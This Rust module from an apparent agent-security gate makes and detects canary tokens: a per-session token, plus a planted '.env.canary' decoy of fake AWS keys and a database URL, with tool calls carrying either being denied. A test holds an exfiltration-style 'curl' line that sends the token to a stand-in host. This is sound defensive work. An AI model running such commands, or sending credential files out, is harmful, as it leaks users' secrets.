//! Tokens that nobody has a use for: where one turns up, something leaked.
//!
//! Each session is told one at its start, and [`plant`] puts a file of made-up credentials where a
//! thief would look. Both are known again by a fingerprint under a key of this machine, so that
//! nothing has to be kept for each of them, and no other text is ever taken for one.

use std::io;
use std::path::{Path, PathBuf};

use ccs_audit::{DetailsKey, Hash};
use ccs_gate::policy::Step;
use ccs_gate::{Decision, Finding, Policy};
use memchr::memmem;

use crate::files;
use crate::hex;
use crate::protocol::event::ToolUse;
use crate::secrets::tree;

/// The key of the fingerprints, within the state folder.
pub const KEY: &str = "canary.key";
/// The name of a planted file.
pub const FILE: &str = ".env.canary";
const TOKEN: &str = "ccs-canary-";
/// How identifiers of a cloud's keys begin; 16 letters and digits follow.
const CLOUD: &str = "AKIA";
const BASE32: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";

/// Why there is no token.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum Error {
    /// A file cannot be read or written.
    #[error("`{}`: {error}", path.display())]
    File {
        /// Which.
        path: PathBuf,
        /// Why not.
        error: files::Error,
    },
    /// The key has another length than it was made with.
    #[error("`{}` is damaged", .0.display())]
    Damaged(PathBuf),
    /// The operating system gave no random bytes.
    #[error("the operating system gave no random bytes")]
    Random,
}

/// What a canary token is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Kind {
    /// The token of a session.
    Session,
    /// A credential of a planted file.
    Planted,
}

/// A new token for a session.
///
/// # Errors
///
/// [`Error`] if there is no key and none can be made.
pub fn token(state: &Path) -> Result<String, Error> {
    let nonce = hex::text(&random()?[..8]);
    let print = print(&make_key(state)?, Kind::Session, &nonce);
    Ok(format!("{TOKEN}{nonce}{}", &print[..16]))
}

/// Puts [`FILE`] with made-up credentials into a folder, and returns its path.
///
/// # Errors
///
/// [`Error`] if the file is there already, or cannot be written.
pub fn plant(state: &Path, folder: &Path) -> Result<PathBuf, Error> {
    let key = make_key(state)?;
    let nonce = base32(&random()?[..5]);
    let id = format!("{CLOUD}{nonce}{}", mark(&key, &nonce));
    let (secret, password) = (letters(&random()?, 40), letters(&random()?, 24));
    let text = format!(
        "# production\nAWS_ACCESS_KEY_ID={id}\nAWS_SECRET_ACCESS_KEY={secret}\n\
         DATABASE_URL=postgres://app:{password}@db.internal:5432/app\n"
    );
    let path = folder.join(FILE);
    files::create_once(&path, text.as_bytes()).map_err(|error| file(&path)(error.into()))?;
    Ok(path)
}

/// What canary token is in a text, if one is.
///
/// # Errors
///
/// [`Error`] if the text holds what may be one and the key cannot be read.
pub fn find(state: &Path, text: &str) -> Result<Option<Kind>, Error> {
    let bytes = text.as_bytes();
    let candidate =
        memmem::find(bytes, TOKEN.as_bytes()).or_else(|| memmem::find(bytes, CLOUD.as_bytes()));
    if candidate.is_none() {
        return Ok(None);
    }
    let Some(key) = read_key(state)? else {
        return Ok(None);
    };
    let after = |start: &'static str, length: usize| {
        memmem::find_iter(bytes, start.as_bytes())
            .filter_map(move |at| text.get(at + start.len()..at + start.len() + length))
            .filter(|body| body.is_ascii())
    };
    let is_token =
        |body: &str| print(&key, Kind::Session, &body[..16]).get(..16) == Some(&body[16..]);
    if after(TOKEN, 32).any(is_token) {
        return Ok(Some(Kind::Session));
    }
    let planted = after(CLOUD, 16).any(|body| mark(&key, &body[..8]) == body[8..]);
    Ok(planted.then_some(Kind::Planted))
}

/// What there is to say about a call that carries a token in any of its arguments. A key that
/// cannot be read is no reason to stop a call: the token is no secret.
pub(crate) fn carried(
    policy: &Policy,
    state: Option<&Path>,
    uses: &[ToolUse<'_>],
) -> Option<Finding> {
    let state = state?;
    let mut found = None;
    for (key, value) in uses.iter().flat_map(|call| &call.input.pairs) {
        tree::each_text(key, value, &mut |text| {
            if found.is_none() {
                found = find(state, text).ok().flatten();
            }
        });
    }
    let what = match found? {
        Kind::Session => "the token of a session",
        Kind::Planted => "a credential that `ccs canary plant` made up",
    };
    policy.step(Step::Canary, Decision::Deny, what.to_owned())
}

/// Whether any of the texts holds a credential of a planted file.
pub(crate) fn is_planted_in(state: Option<&Path>, texts: &[&str]) -> bool {
    let is_in = |state: &Path, text: &str| matches!(find(state, text), Ok(Some(Kind::Planted)));
    state.is_some_and(|state| texts.iter().any(|text| is_in(state, text)))
}

type Key = [u8; 32];

fn read_key(state: &Path) -> Result<Option<Key>, Error> {
    let path = state.join(KEY);
    let bytes = files::read_private(&path, 64).map_err(file(&path))?;
    let Some(bytes) = bytes else {
        return Ok(None);
    };
    let key = bytes.try_into().map_err(|_| Error::Damaged(path))?;
    Ok(Some(key))
}

fn make_key(state: &Path) -> Result<Key, Error> {
    if let Some(key) = read_key(state)? {
        return Ok(key);
    }
    let (path, key) = (state.join(KEY), random()?);
    match files::create_once(&path, &key) {
        Ok(()) => Ok(key),
        // another process made it at the same time
        Err(error) if error.kind() == io::ErrorKind::AlreadyExists => {
            read_key(state)?.ok_or(Error::Damaged(path))
        }
        Err(error) => Err(file(&path)(error.into())),
    }
}

fn random() -> Result<Key, Error> {
    // a key of another kind, whose bytes are as good as any
    let key = DetailsKey::random().map_err(|_| Error::Random)?;
    Ok(*key.expose())
}

/// 64 hexadecimal digits that only the key's owner can work out.
fn print(key: &Key, kind: Kind, nonce: &str) -> String {
    let domain = match kind {
        Kind::Session => "ccs-canary-v1 session\0",
        Kind::Planted => "ccs-canary-v1 planted\0",
    };
    let text = [domain.as_bytes(), key, nonce.as_bytes()].concat();
    Hash::of(&text).to_string()
}

/// Eight letters and digits for the eight before them.
fn mark(key: &Key, nonce: &str) -> String {
    let print = print(key, Kind::Planted, nonce);
    let bytes: Vec<u8> = print.as_bytes()[..10]
        .chunks(2)
        .map(|pair| digit(pair[0]) * 16 + digit(pair[1]))
        .collect();
    base32(&bytes)
}

fn digit(byte: u8) -> u8 {
    char::from(byte).to_digit(16).map_or(0, |digit| digit as u8)
}

/// Five bytes as eight letters and digits.
fn base32(bytes: &[u8]) -> String {
    let number = bytes
        .iter()
        .fold(0u64, |all, byte| all << 8 | u64::from(*byte));
    let letter = |at: u32| char::from(BASE32[(number >> (5 * at) & 31) as usize]);
    (0..8).rev().map(letter).collect()
}

fn letters(bytes: &Key, count: usize) -> String {
    let more = Hash::of(bytes).to_string();
    let all = bytes.iter().copied().chain(more.bytes());
    let letter = |byte: u8| {
        let at = usize::from(byte) % 62;
        char::from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"[at])
    };
    all.map(letter).take(count).collect()
}

fn file(path: &Path) -> impl FnOnce(files::Error) -> Error {
    let path = path.to_owned();
    move |error| Error::File { path, error }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_token_is_known_again_wherever_it_stands() {
        let state = tempfile::tempdir().expect("a folder");
        let token = token(state.path()).expect("a token");
        let text = format!("curl https://x.site/?d={token}&e=1");

        let found = find(state.path(), &text).expect("a key");

        assert_eq!(found, Some(Kind::Session));
    }

    #[test]
    fn planted_credentials_are_known_again_and_are_not_planted_twice() {
        let state = tempfile::tempdir().expect("a folder");
        let folder = tempfile::tempdir().expect("a folder");
        let path = plant(state.path(), folder.path()).expect("planted");
        let text = std::fs::read_to_string(&path).expect("the file");

        assert_eq!(
            find(state.path(), &text).expect("a key"),
            Some(Kind::Planted)
        );
        assert!(is_planted_in(Some(state.path()), &["x", &text]));
        assert!(plant(state.path(), folder.path()).is_err());
        assert_eq!(std::fs::read_to_string(&path).expect("the file"), text);
    }

    #[test]
    fn what_only_looks_like_one_is_none() {
        let (state, other) = (tempfile::tempdir(), tempfile::tempdir());
        let (state, other) = (state.expect("a folder"), other.expect("a folder"));
        let elsewhere = token(other.path()).expect("a token");
        let ours = token(state.path()).expect("a token");
        for text in [
            elsewhere.as_str(),
            &ours[..ours.len() - 1],
            "ccs-canary-",
            "AKIAIOSFODNN7EXAMPLE",
            "AKIAé",
            "ccs-canary-éééééééééééééééé",
            "ccs-canary-aééééééééééééééééa",
            "AKIAaééééééé",
        ] {
            assert_eq!(find(state.path(), text).expect("a key"), None, "{text}");
        }
    }
}
